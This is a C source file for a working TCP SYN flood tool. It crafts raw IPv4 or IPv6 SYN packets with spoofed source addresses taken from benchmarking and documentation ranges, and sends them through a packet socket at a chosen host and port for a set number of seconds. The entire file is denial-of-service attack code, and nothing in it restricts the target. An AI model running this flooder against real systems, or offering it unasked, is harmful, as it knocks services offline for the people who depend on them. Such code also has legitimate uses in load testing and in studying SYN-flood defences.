/* A flood of TCP's first segments, from addresses and ports of nobody, to one port.
 *
 * usage: synflood INTERFACE MAC ADDRESS PORT SECONDS      ADDRESS is IPv4's or IPv6's
 *
 * They go out by a packet socket, to the MAC address. Prints how many. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define TCP_BYTES 20

struct target
{
  bool is_ipv6;
  unsigned char mac[6];
  unsigned char address[16];
  uint16_t port;
};

static uint64_t random_state = 1;

static uint32_t random_next(void)
{
  random_state = random_state * 6364136223846793005u + 1442695040888963407u;
  return (uint32_t) (random_state >> 32);
}

static uint32_t add_words(uint32_t sum, const unsigned char *data, size_t len_bytes)
{
  for (size_t i = 0; i < len_bytes; i += 2)
    sum += (uint32_t) (data[i] << 8 | data[i + 1]);
  return sum;
}

static void put16(unsigned char *place, uint32_t value)
{
  place[0] = (unsigned char) (value >> 8);
  place[1] = (unsigned char) value;
}

static void put_checksum(unsigned char *place, uint32_t sum)
{
  while (sum >> 16 != 0)
    sum = (sum & 0xffff) + (sum >> 16);
  put16(place, ~sum);
}

/* TCP's header, of a first segment without options; `addresses` are those of the pseudo header. */
static void write_tcp(unsigned char *tcp, const struct target *target,
                      const unsigned char *addresses, size_t addresses_bytes)
{
  put16(tcp, 1024 + random_next() % 64000);
  put16(tcp + 2, target->port);
  put16(tcp + 4, random_next());
  put16(tcp + 6, random_next());
  tcp[12] = TCP_BYTES / 4 << 4;
  tcp[13] = 2; /* SYN */
  put16(tcp + 14, 65535);
  put_checksum(tcp + 16, add_words(add_words(IPPROTO_TCP + TCP_BYTES, addresses, addresses_bytes),
                                   tcp, TCP_BYTES));
}

/* From 198.18.0.0/15, which is for such tests. Returns the frame's length. */
static size_t write_ipv4(unsigned char *ip, const struct target *target)
{
  uint32_t source = 198u << 24 | 18u << 16 | (random_next() & 0x1ffff);
  ip[0] = 0x45;
  put16(ip + 2, 20 + TCP_BYTES);
  ip[8] = 64;
  ip[9] = IPPROTO_TCP;
  put16(ip + 12, source >> 16);
  put16(ip + 14, source);
  memcpy(ip + 16, target->address, 4);
  put_checksum(ip + 10, add_words(0, ip, 20));
  write_tcp(ip + 20, target, ip + 12, 8);
  return 20 + TCP_BYTES;
}

/* From 2001:db8::/32, which is for documentation. */
static size_t write_ipv6(unsigned char *ip, const struct target *target)
{
  ip[0] = 0x60;
  put16(ip + 4, TCP_BYTES);
  ip[6] = IPPROTO_TCP;
  ip[7] = 64;
  put16(ip + 8, 0x2001);
  put16(ip + 10, 0xdb8);
  put16(ip + 20, random_next());
  put16(ip + 22, random_next());
  memcpy(ip + 24, target->address, 16);
  write_tcp(ip + 40, target, ip + 8, 32);
  return 40 + TCP_BYTES;
}

static bool read_mac(uint8_t mac[static 6], const char *text)
{
  const struct ether_addr *read = ether_aton(text);
  if (read != NULL)
    memcpy(mac, read->ether_addr_octet, 6);
  return read != NULL;
}

static bool read_target(struct target *target, char **argv)
{
  target->port = (uint16_t) strtol(argv[2], NULL, 10);
  target->is_ipv6 = strchr(argv[1], ':') != NULL;
  return inet_pton(target->is_ipv6 ? AF_INET6 : AF_INET, argv[1], target->address) == 1 &&
         read_mac(target->mac, argv[0]);
}

int main(int argc, char **argv)
{
  struct target target;
  if (argc != 6 || !read_target(&target, argv + 2))
  {
    fputs("usage: synflood INTERFACE MAC ADDRESS PORT SECONDS\n", stderr);
    return 2;
  }
  unsigned long sent = 0;
  time_t end = time(NULL) + strtol(argv[5], NULL, 10);
  struct sockaddr_ll to = {.sll_family = AF_PACKET,
                           .sll_protocol = htons(target.is_ipv6 ? ETH_P_IPV6 : ETH_P_IP),
                           .sll_ifindex = (int) if_nametoindex(argv[1]),
                           .sll_halen = ETH_ALEN};
  memcpy(to.sll_addr, target.mac, sizeof(target.mac));
  int fd = socket(AF_PACKET, SOCK_DGRAM, 0);
  while (fd >= 0 && time(NULL) < end)
  {
    unsigned char packet[80] = {0};
    size_t len_bytes = target.is_ipv6 ? write_ipv6(packet, &target) : write_ipv4(packet, &target);
    if (sendto(fd, packet, len_bytes, 0, (struct sockaddr *) &to, sizeof(to)) ==
        (ssize_t) len_bytes)
      sent++;
    else if (errno != ENOBUFS)
      break;
  }
  if (fd < 0 || sent == 0)
  {
    perror("synflood");
    return EXIT_FAILURE;
  }
  printf("%lu\n", sent);
  return EXIT_SUCCESS;
}
